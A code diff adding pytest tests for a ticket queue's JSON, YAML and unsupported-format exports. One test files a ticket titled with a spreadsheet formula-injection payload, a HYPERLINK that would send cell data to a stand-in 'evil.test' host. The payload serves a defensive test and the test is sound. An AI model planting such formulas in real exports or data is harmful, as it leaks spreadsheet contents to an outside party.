@@ -87,6 +87,28 @@ def test_the_csv_export_has_plain_values_and_no_formulas(client, plan, partner, 
     assert "<" not in "".join(rows[1])
 
 
+def test_json_and_yaml_exports_keep_typed_text_exactly(client, plan, partner, partner_member, support_l1):
+    import json
+
+    import yaml
+
+    title = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
+    file_ticket(partner, partner_member, title=title)
+    client.force_login(support_l1)
+    as_json = json.loads(client.get(reverse("queue"), {"_export": "json"}).content)
+    assert as_json[0]["Title"] == title
+    as_yaml = yaml.safe_load(client.get(reverse("queue"), {"_export": "yaml"}).content)
+    assert as_yaml[0]["Title"] == title
+
+
+@pytest.mark.parametrize("export", ["xlsx", "ods", "xls", "latex", "pdf", "csv;"])
+def test_an_export_format_the_queue_does_not_offer_is_refused(client, plan, support_l1, export):
+    client.force_login(support_l1)
+    response = client.get(reverse("queue"), {"_export": export})
+    assert response.status_code == 400
+    assert "The queue exports as csv, tsv, json, yaml." in response.content.decode()
+
+
 def test_the_queue_colours_rows_by_sla_state(client, plan, partner, partner_member, support_l1):
     file_ticket(partner, partner_member, title="Breached one", severity="P1", at=timezone.now() - timedelta(hours=1))
     client.force_login(support_l1)
